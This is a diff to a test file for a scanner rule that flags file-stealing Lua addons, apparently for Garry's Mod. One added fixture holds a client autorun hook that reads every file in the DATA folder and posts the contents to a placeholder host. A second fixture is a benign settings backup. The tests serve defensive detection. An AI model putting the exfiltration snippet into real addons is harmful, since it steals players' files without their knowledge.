@@ -19,4 +19,31 @@ describe('file_stealer', () => {
     });
     expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
   });
+  it('the whole of data/ read from its root and posted, on a client', () => {
+    const findings = check(rule, {
+      'lua/autorun/client/cl_x.lua': [
+        'local function gather(dir, out)',
+        ' local fs, ds = file.Find(dir .. "*", "DATA")',
+        ' for _, f in ipairs(fs) do out[dir .. f] = file.Read(dir .. f, "DATA") end',
+        ' for _, d in ipairs(ds) do gather(dir .. d .. "/", out) end',
+        ' return out',
+        'end',
+        'hook.Add("InitPostEntity", "sync", function() http.Post("https://cloud.invalid/u", gather("", {})) end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it('its own settings folder in data/ read and uploaded for a cloud backup', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'concommand.Add("myaddon_backup", function(ply)',
+        ' if IsValid(ply) then return end',
+        ' local out = {}',
+        ' for _, f in ipairs(file.Find("myaddon/*.txt", "DATA")) do out[f] = file.Read("myaddon/" .. f, "DATA") end',
+        ' http.Post("https://backup.invalid/put", out)',
+        'end)',
+      ].join('\n'),
+    });
+    expect(findings).toEqual([]);
+  });
 });
